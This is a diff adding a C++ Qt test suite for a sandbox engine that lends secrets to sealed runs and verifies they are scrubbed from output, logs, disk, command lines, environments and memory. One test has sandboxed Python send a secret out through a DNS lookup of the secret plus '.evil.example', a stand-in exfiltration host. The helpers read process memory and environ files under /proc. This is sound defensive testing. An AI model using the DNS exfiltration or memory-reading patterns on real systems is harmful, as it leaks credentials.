@@ -1,0 +1,494 @@
+// SPDX-License-Identifier: Apache-2.0
+// Secrets that are lent to real sealed runs: they arrive as they are, and then are nowhere: not in output, record, files, command lines,
+// environments or memory of our processes.
+#include "engine/engine.h"
+
+#include <QDirIterator>
+#include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QRandomGenerator>
+#include <QTemporaryDir>
+#include <QTest>
+
+#include <cstring>
+
+using namespace glovebox;
+using namespace Qt::StringLiterals;
+using namespace std::chrono_literals;
+
+namespace {
+
+constexpr char mask = 0x5a;
+
+// A value that this program keeps in a mask, so that whoever finds it unmasked found a copy that shouldn't be.
+class MaskedValue
+{
+public:
+    MaskedValue()
+    {
+        const QByteArray letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789/\"\\ ";
+        for (int i = 0; i < 40; ++i)
+            m_masked += char(letters[QRandomGenerator::global()->bounded(int(letters.size()))] ^ mask);
+        m_masked[0] = char('"' ^ mask); // in each there is something that encoders treat in a way of their own
+        m_masked[20] = char('/' ^ mask);
+    }
+    const QByteArray &masked() const { return m_masked; }
+    SecretValue value() const
+    {
+        SecretValue value = SecretValue::copyOf(m_masked);
+        for (qsizetype i = 0; i < value.size(); ++i)
+            value.data()[i] = char(value.data()[i] ^ mask);
+        return value;
+    }
+    bool isIn(QByteArrayView bytes) const
+    {
+        const char first = char(m_masked[0] ^ mask);
+        for (const char *at = bytes.begin();
+             (at = static_cast<const char *>(std::memchr(at, first, std::size_t(bytes.end() - at)))); ++at) {
+            if (bytes.end() - at < m_masked.size())
+                return false;
+            qsizetype i = 0;
+            while (i < m_masked.size() && at[i] == char(m_masked[i] ^ mask))
+                ++i;
+            if (i == m_masked.size())
+                return true;
+        }
+        return false;
+    }
+
+private:
+    QByteArray m_masked;
+};
+
+// Writable memory of a process; nothing where it may not be read.
+bool isInMemory(const MaskedValue &value, const QByteArray &process, qint64 *read = nullptr)
+{
+    QFile maps(QFile::decodeName("/proc/" + process + "/maps"));
+    QFile memory(QFile::decodeName("/proc/" + process + "/mem"));
+    if (!maps.open(QIODevice::ReadOnly | QIODevice::Unbuffered)
+        || !memory.open(QIODevice::ReadOnly | QIODevice::Unbuffered))
+        return false;
+    static QByteArray part(1 << 20, '\0');
+    bool found = false;
+    for (const QByteArray &line : maps.readAll().split('\n')) {
+        const QByteArrayList fields = line.simplified().split(' ');
+        if (fields.size() < 2 || !fields[1].startsWith("rw"))
+            continue;
+        const QByteArrayList ends = fields[0].split('-');
+        qint64 at = ends[0].toLongLong(nullptr, 16);
+        const qint64 end = ends[1].toLongLong(nullptr, 16);
+        while (at < end) {
+            memory.seek(at);
+            const qint64 got = memory.read(part.data(), std::min<qint64>(part.size(), end - at));
+            if (got <= 0)
+                break;
+            if (read)
+                *read += got;
+            found = found || value.isIn(QByteArrayView(part).first(got));
+            std::memset(part.data(), 0, std::size_t(got)); // it would be found again here
+            if (got < part.size())
+                break;
+            at += got - 64;
+        }
+    }
+    return found;
+}
+
+QByteArrayList descendants()
+{
+    QByteArrayList all{QByteArray::number(QCoreApplication::applicationPid())};
+    for (qsizetype i = 0; i < all.size(); ++i) {
+        QDirIterator threads(QFile::decodeName("/proc/" + all[i] + "/task"), QDir::Dirs | QDir::NoDotAndDotDot);
+        while (threads.hasNext()) {
+            QFile children(threads.next() + u"/children"_s);
+            if (children.open(QIODevice::ReadOnly))
+                all += children.readAll().simplified().split(' ');
+        }
+        all.removeAll(QByteArray());
+    }
+    all.removeFirst();
+    return all;
+}
+
+QByteArray fileContent(const QByteArray &path)
+{
+    QFile file(QFile::decodeName(path));
+    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
+}
+
+// The engine's own processes and this one: not those of runs, which have what they are lent.
+bool isInCommandOrEnvironment(const ScrubPlan &plan)
+{
+    for (const QByteArray &pid : QByteArrayList{"self"} + descendants()) {
+        const QByteArray folder = "/proc/" + pid + '/';
+        if (plan.finds(fileContent(folder + "cmdline")))
+            return true;
+        if (fileContent(folder + "comm").startsWith("glovebox") || pid == "self") {
+            if (plan.finds(fileContent(folder + "environ")))
+                return true;
+        }
+    }
+    return false;
+}
+
+bool isOnDisk(const ScrubPlan &plan, const QString &folder)
+{
+    QDirIterator files(folder, QDir::Files | QDir::Hidden | QDir::System, QDirIterator::Subdirectories);
+    while (files.hasNext()) {
+        const QString name = files.next();
+        if (plan.finds(fileContent(QFile::encodeName(name))) || plan.finds(name.toUtf8())) {
+            qWarning("found in %s", qPrintable(name));
+            return true;
+        }
+    }
+    return false;
+}
+
+struct Shape
+{
+    NativeBuilder builder = NativeBuilder::Direct;
+    bool warm = false;
+    QByteArray language;
+};
+
+} // namespace
+
+class TestLentSecrets : public QObject
+{
+    Q_OBJECT
+
+    std::unique_ptr<QTemporaryDir> m_home;
+    std::unique_ptr<Engine> m_engine;
+
+    void open(NativeBuilder builder = NativeBuilder::Direct, bool warm = false)
+    {
+        m_engine.reset();
+        m_home = std::make_unique<QTemporaryDir>();
+        EngineConfig config;
+        const QString home = m_home->path();
+        config.paths = {home + u"/data"_s, home + u"/config"_s, home + u"/run"_s, QStringLiteral(GLOVEBOX_LIBEXEC)};
+        config.native.only = builder;
+        config.keepsWarm = warm;
+        config.stores = {makeMemoryStore()};
+        auto settings = Settings::load(config.paths.settingsFile(), {});
+        QVERIFY(settings);
+        config.settings = *std::move(settings);
+        auto engine = Engine::open(std::move(config));
+        QVERIFY2(engine, engine ? "" : qPrintable(engine.error().message.english()));
+        m_engine = *std::move(engine);
+        if (const BackendReport report = m_engine->backend().probe(); !report.usable) {
+            m_engine.reset();
+            QSKIP(qPrintable(report.reason.english()));
+        }
+    }
+    void add(const QString &name, const SecretValue &value, const SecretLimits &limits = {})
+    {
+        const Status added = m_engine->vault().add(name, {}, limits, value, {}, Patience::of(5s));
+        QVERIFY2(added, added ? "" : qPrintable(added.error().message.english()));
+    }
+    RunRequest request(const QByteArray &language, const QByteArray &code, std::vector<SecretGrant> secrets)
+    {
+        RunRequest request;
+        request.language = QString::fromLatin1(language);
+        request.code = code;
+        request.policy = m_engine->settings().policy();
+        request.secrets = std::move(secrets);
+        return request;
+    }
+    std::shared_ptr<const RunResult> run(const QByteArray &language, const QByteArray &code,
+                                         std::vector<SecretGrant> secrets)
+    {
+        return m_engine->start(request(language, code, std::move(secrets)))->wait();
+    }
+    QByteArray entries(const QString &id)
+    {
+        QByteArray all;
+        const auto reader = m_engine->auditReader();
+        const auto stored = reader ? (*reader)->entriesOf(id) : Result<QList<StoredEntry>>();
+        for (const StoredEntry &entry : stored ? *stored : QList<StoredEntry>())
+            all += entry.json + '\n';
+        return all;
+    }
+
+private Q_SLOTS:
+    void cleanup() { m_engine.reset(); }
+
+    void valuesArriveAsTheyAre_data()
+    {
+        QTest::addColumn<NativeBuilder>("builder");
+        QTest::addColumn<bool>("warm");
+        for (const bool warm : {false, true}) {
+            QTest::addRow("direct %s", warm ? "warm" : "cold") << NativeBuilder::Direct << warm;
+            QTest::addRow("bwrap %s", warm ? "warm" : "cold") << NativeBuilder::Bubblewrap << warm;
+        }
+    }
+    void valuesArriveAsTheyAre()
+    {
+        QFETCH(NativeBuilder, builder);
+        QFETCH(bool, warm);
+        open(builder, warm);
+        const MaskedValue value;
+        add(u"KEY"_s, value.value());
+        add(u"api.key"_s, value.value());
+        const QByteArray expected = value.masked().toHex();
+        const struct
+        {
+            QByteArray language, code;
+        } programs[] = {
+            {"python", "import os\n"
+                       "m = lambda b: bytes(c ^ 0x5a for c in b).hex()\n"
+                       "f = '/run/secrets/api.key'\n"
+                       "print(m(os.environb[b'KEY']), m(os.environb[b'OTHER']), m(open(f, 'rb').read()), "
+                       "oct(os.stat(f).st_mode), os.stat(f).st_uid == os.getuid())\n"
+                       "print(os.listdir('/run/secrets'), os.path.exists('/proc/self/fd/3'))\n"},
+            {"node", "const fs = require('fs'), f = '/run/secrets/api.key';\n"
+                     "const m = b => Buffer.from(Buffer.from(b).map(c => c ^ 0x5a)).toString('hex');\n"
+                     "const s = fs.statSync(f);\n"
+                     "console.log(m(process.env.KEY), m(process.env.OTHER), m(fs.readFileSync(f)), '0o' + "
+                     "s.mode.toString(8), s.uid === process.getuid() ? 'True' : 'False');\n"
+                     "console.log(JSON.stringify(fs.readdirSync('/run/secrets')).replaceAll('\"', \"'\"), 'False');\n"},
+            {"bash", "f=/run/secrets/api.key\n"
+                     "m() { python3 -c 'import sys; print(bytes(c ^ 0x5a for c in sys.stdin.buffer.read()).hex(), "
+                     "end=\" \")'; }\n"
+                     "printf %s \"$KEY\" | m; printf %s \"$OTHER\" | m; m < $f\n"
+                     "echo 0o100$(stat -c %a $f) $([ -O $f ] && echo True)\necho \"['$(ls /run/secrets)'] False\"\n"},
+        };
+        for (const auto &[language, code] : programs) {
+            const std::vector<SecretGrant> secrets{
+                {u"KEY"_s, {}, false}, {u"KEY"_s, u"OTHER"_s, false}, {u"api.key"_s, {}, true}};
+            auto result = run(language, code, secrets);
+            // What is built ahead is of the shapes that were wanted; it takes its time.
+            for (int turn = 0; warm && turn < 50 && !result->warm; ++turn) {
+                QTest::qWait(100);
+                result = run(language, code, secrets);
+            }
+            QCOMPARE(result->err.kept(), QByteArray());
+            QCOMPARE(result->out.kept(),
+                     expected + ' ' + expected + ' ' + expected + " 0o100400 True\n['api.key'] False\n");
+            QCOMPARE(toString(result->outcome), toString(Outcome::Completed));
+            QCOMPARE(result->warm, warm);
+        }
+        // The next one has none of it.
+        const auto next = run("python", "import os\nprint('KEY' in os.environ, os.path.exists('/run/secrets'))", {});
+        QCOMPARE(next->out.kept(), QByteArray("False False\n"));
+    }
+
+    void whateverItPrintsIsScrubbed_data()
+    {
+        QTest::addColumn<QByteArray>("language");
+        QTest::addColumn<QByteArray>("code");
+        const auto python = [](const char *name, const QByteArray &code) {
+            QTest::newRow(name)
+                << QByteArray("python")
+                << "import os, sys, time, base64, json, urllib.parse, subprocess\nk = os.environ['KEY']\n" + code;
+        };
+        python("plainly", "print(k); print(k, file=sys.stderr)");
+        python("byte by byte", "for c in k: os.write(1, c.encode()); time.sleep(0.002)");
+        python("two streams in turn", "for c in k: os.write(1, c.encode()); os.write(2, c.encode())");
+        python("traceback", "raise KeyError(k)");
+        python("source line", "assert False, f'no luck with {k}'");
+        python("base64", "for i in range(3): print(base64.b64encode(b'x' * i + k.encode()).decode())");
+        python("wrapped base64",
+               "b = base64.b64encode(k.encode() * 3).decode()\nfor n in range(1, 77):\n"
+               "  for s in '\\n', '\\r\\n': print(s.join(b[i:i+n] for i in range(0, len(b), n)), end='\\n\\n')");
+        python("URL base64 and repr",
+               "print(base64.urlsafe_b64encode(k.encode())); print([base64.encodebytes(k.encode() * 3)])");
+        python("hexadecimal", "print(k.encode().hex(), k.encode().hex().upper())");
+        python("JSON", "print(json.dumps({'k': k}), repr(k), ascii(k), json.dumps(k).replace('/', '\\\\/'))");
+        python("URL", "print(urllib.parse.quote(k), urllib.parse.quote(k, safe=''), urllib.parse.quote_plus(k), "
+                      "''.join('%%%02x' % c for c in k.encode()))");
+        python("reversed", "print(k[::-1])");
+        python("flood around it", "sys.stdout.write('x' * 3000000 + k + 'y' * 3000000 + k)");
+        python("at the cap", "m = 786432\nsys.stdout.write('x' * (m - 20) + k + 'y' * 3000000)");
+        python("at the join",
+               "sys.stdout.write('x' * (786432 - 20) + k[:20] + 'y' * 1000000 + k[20:] + 'z' * (262144 - 20))");
+        python("at the end", "os.write(1, k.encode()); os._exit(0)");
+        python("killed after it", "os.write(1, k.encode()); os.kill(os.getpid(), 9)");
+        python("a child's command line",
+               "subprocess.run(['sh', '-c', 'echo \"$0\"; tr \"\\\\0\" \" \" < /proc/$$/cmdline', k])");
+        python("file names", "open('/work/' + k.replace('/', '_'), 'w'); open('/work/a', 'w').write(k); "
+                             "print(os.listdir('/work'), open('/work/a').read())");
+        QTest::newRow("bash") << QByteArray("bash")
+                              << QByteArray("set -x; echo \"$KEY\"; env; cat <<< $KEY | rev; declare -p KEY; printf "
+                                            "'%q\\n' \"$KEY\" | head -c 3");
+        QTest::newRow("node") << QByteArray("node")
+                              << QByteArray("const k = process.env.KEY; console.log(k, {k}, [k]); "
+                                            "console.error(JSON.stringify({k}), encodeURIComponent(k), "
+                                            "Buffer.from(k).toString('base64url')); throw new Error(k)");
+    }
+    void whateverItPrintsIsScrubbed()
+    {
+        QFETCH(QByteArray, language);
+        QFETCH(QByteArray, code);
+        open();
+        const MaskedValue value;
+        add(u"KEY"_s, value.value());
+        const SecretValue clear = value.value();
+        const ScrubPlan plan({{u"KEY"_s, clear.view()}});
+        const auto live = m_engine->start(request(language, code, {{u"KEY"_s, {}, false}}));
+        QByteArray seen[2];
+        qint64 cursor = 0;
+        for (;;) {
+            const OutputSlice slice = live->output(cursor, 1 << 20);
+            for (const OutputChunk &chunk : slice.chunks)
+                seen[int(chunk.stream)] += chunk.bytes;
+            cursor = slice.next;
+            if (slice.atEnd)
+                break;
+            if (slice.chunks.isEmpty())
+                QTest::qSleep(1);
+        }
+        const auto result = live->wait();
+        QVERIFY2(!nothingRan(result->outcome), qPrintable(result->reason.english()));
+        for (const QByteArray &bytes : {result->out.kept(), result->err.kept(), QJsonDocument(toJson(*result)).toJson(),
+                                        entries(result->id), seen[0], seen[1]}) {
+            QVERIFY2(!plan.finds(bytes), bytes.right(3000).constData());
+            QVERIFY(!value.isIn(bytes));
+        }
+        QVERIFY((result->out.kept() + result->err.kept()).contains("[secret KEY]"));
+        QVERIFY(!isOnDisk(plan, m_home->path()));
+    }
+
+    void aTerminalIsScrubbedToo()
+    {
+        open();
+        const MaskedValue value;
+        add(u"KEY"_s, value.value());
+        RunRequest wanted = request("bash", "echo \"<$KEY>\"; [ -t 1 ] && echo terminal", {{u"KEY"_s, {}, false}});
+        wanted.terminal = Terminal();
+        const auto result = m_engine->start(std::move(wanted))->wait();
+        QCOMPARE(result->out.kept(), QByteArray("<[secret KEY]>\nterminal\n"));
+    }
+
+    void eventsAndAttemptsAreScrubbed()
+    {
+        open();
+        const QByteArray name = "hostpart" + QByteArray::number(QRandomGenerator::global()->generate(), 36);
+        add(u"KEY"_s, SecretValue::copyOf(name));
+        RunRequest wanted =
+            request("python",
+                    "import os, socket\n"
+                    "try: socket.getaddrinfo(os.environ['KEY'] + '.evil.example', 80)\nexcept OSError: pass\n"
+                    "print('tried')",
+                    {{u"KEY"_s, {}, false}});
+        wanted.policy.allow = {u"example.org"_s};
+        const auto result = m_engine->start(std::move(wanted))->wait();
+        QCOMPARE(result->out.kept(), QByteArray("tried\n"));
+        QVERIFY(!result->egress.isEmpty());
+        QCOMPARE(result->egress[0].host, u"[secret KEY].evil.example"_s);
+        QVERIFY(!QJsonDocument(toJson(*result)).toJson().contains(name));
+        QVERIFY(!entries(result->id).contains(name));
+    }
+
+    void whatIsNotThereOrNotAllowedIsDeniedAndRecorded()
+    {
+        open();
+        add(u"KEY"_s, SecretValue::copyOf("value-of-key"),
+            {.languages = {u"node"_s}, .hosts = QStringList(), .callers = {}, .expiryMicroseconds = {}});
+        const auto missing = run("sh", "touch ran", {{u"NONE"_s, {}, false}});
+        QCOMPARE(toString(missing->outcome), toString(Outcome::Denied));
+        QVERIFY(missing->controls.isEmpty()); // nothing was built
+        const auto limited = run("sh", "touch ran", {{u"KEY"_s, {}, false}});
+        QCOMPARE(toString(limited->outcome), toString(Outcome::Denied));
+        RunRequest open = request("node", "1", {{u"KEY"_s, {}, false}});
+        open.policy.allow = {u"example.org"_s};
+        const auto tooOpen = m_engine->start(std::move(open))->wait();
+        QCOMPARE(toString(tooOpen->outcome), toString(Outcome::Denied));
+        QVERIFY(entries(limited->id).contains("\"secrets\":[\"KEY\"]"));
+        QVERIFY(entries(missing->id).contains("\"outcome\":\"denied\""));
+        QCOMPARE(toString(run("node", "1", {{u"KEY"_s, {}, false}})->outcome), toString(Outcome::Completed));
+        QCOMPARE(toString(run("node", "1", {{u"no name"_s, {}, false}})->outcome), toString(Outcome::Rejected));
+        // What a variable of Node.js can't hold.
+        add(u"BYTES"_s, SecretValue::copyOf("\xff\xfe\xfd\xfc"));
+        QCOMPARE(toString(run("node", "1", {{u"BYTES"_s, {}, false}})->outcome), toString(Outcome::Denied));
+        QCOMPARE(toString(run("python", "1", {{u"BYTES"_s, {}, false}})->outcome), toString(Outcome::Completed));
+    }
+
+    void nothingOfItIsLeftInMemory_data() { valuesArriveAsTheyAre_data(); }
+    void nothingOfItIsLeftInMemory()
+    {
+        QFETCH(NativeBuilder, builder);
+        QFETCH(bool, warm);
+        open(builder, warm);
+        const MaskedValue value;
+        add(u"KEY"_s, value.value());
+        add(u"FILE"_s, value.value());
+        {
+            const SecretValue copy = value.value();
+            QVERIFY(isInMemory(value, "self")); // it would be found
+        }
+        for (const QByteArray language : {"python", "node", "bash"}) {
+            const QByteArray code =
+                language == "python" ? "import os, sys\nprint(os.environ['KEY'], file=sys.stderr)\nos.write(1, "
+                                       "os.environb[b'KEY'])\nraise KeyError(os.environ['KEY'])"
+                : language == "node"
+                    ? "console.log(process.env.KEY); console.error(Buffer.from(process.env.KEY).toString('base64'))"
+                    : "echo \"$KEY\"; echo \"$KEY\" >&2; cat /run/secrets/FILE";
+            const auto live = m_engine->start(request(language, code, {{u"KEY"_s, {}, false}, {u"FILE"_s, {}, true}}));
+            const auto result = live->wait();
+            QVERIFY((result->out.kept() + result->err.kept()).contains("[secret KEY]"));
+        }
+        QVERIFY(m_engine->vault().remove(u"KEY"_s, {}, Patience::of(5s)));
+        QVERIFY(m_engine->vault().remove(u"FILE"_s, {}, Patience::of(5s)));
+        qint64 read = 0;
+        QVERIFY(!isInMemory(value, "self", &read));
+        QVERIFY(read > mebibyte);
+        for (const QByteArray &pid : descendants()) {
+            QVERIFY2(!isInMemory(value, pid), fileContent("/proc/" + pid + "/comm"));
+            const QDir descriptors(QFile::decodeName("/proc/" + pid + "/fd"));
+            for (const QFileInfo &file : descriptors.entryInfoList(QDir::Files | QDir::System))
+                QVERIFY(!file.symLinkTarget().contains(u"glovebox-assignment"_s));
+        }
+    }
+
+    void nobodyOutsideHasItWhileItRuns()
+    {
+        open();
+        const MaskedValue value;
+        add(u"KEY"_s, value.value());
+        const auto live = m_engine->start(request("bash", "echo \"$KEY\"; read line", {{u"KEY"_s, {}, false}}));
+        QVERIFY(QTest::qWaitFor([&] { return live->output(0, 100).next > 0; }, 10000));
+        const SecretValue clear = value.value();
+        const ScrubPlan plan({{u"KEY"_s, clear.view()}});
+        QVERIFY(descendants().size() >= 2);
+        QVERIFY(!isInCommandOrEnvironment(plan));
+        QVERIFY(!isOnDisk(plan, m_home->path()));
+        // No core file of whoever has it: the limit was lowered for good.
+        for (const QByteArray &pid : descendants())
+            QVERIFY2(
+                fileContent("/proc/" + pid + "/limits").contains("Max core file size        1                    1 "),
+                fileContent("/proc/" + pid + "/comm") + fileContent("/proc/" + pid + "/limits"));
+        live->closeInput();
+        live->wait();
+        QVERIFY(!isOnDisk(plan, m_home->path()));
+    }
+
+    void whatLooksLikeASecretOfNobodysIsTold()
+    {
+        open();
+        const QByteArray token = "ghp_" + QByteArray("aB3dE5fG7h").repeated(3) + "iJ9kL0";
+        const auto result = run("sh", "echo 'ghp_'aB3dE5fG7haB3dE5fG7haB3dE5fG7hiJ9kL0", {});
+        QCOMPARE(result->out.kept(), token + '\n'); // never blocked, never changed
+        QCOMPARE(result->events.size(), 1);
+        QCOMPARE(result->events[0].type, u"leak.output"_s);
+        QCOMPARE(result->events[0].detail.english(),
+                 u"Something in its stdout looks like a secret: GitHub token (1 times)."_s);
+        QVERIFY(m_engine->settings().setFlag(u"leaks.ignore"_s, u"card-number github-token"_s));
+        QVERIFY(run("sh", "echo 'ghp_'aB3dE5fG7haB3dE5fG7haB3dE5fG7hiJ9kL0", {})->events.isEmpty());
+    }
+
+    void whatIsLentToNobodyCostsNothing()
+    {
+        open();
+        QByteArray all;
+        for (int i = 0; i < 256; ++i)
+            all += QByteArray(1, char(i));
+        const auto result =
+            run("python", "import os\nos.write(1, bytes(range(256)))\nos.write(1, b'\\\\u0041%41\\\\')", {});
+        QCOMPARE(result->out.kept(), all + "\\u0041%41\\");
+    }
+};
+
+QTEST_GUILESS_MAIN(TestLentSecrets)
+#include "tst_lentsecrets.moc"
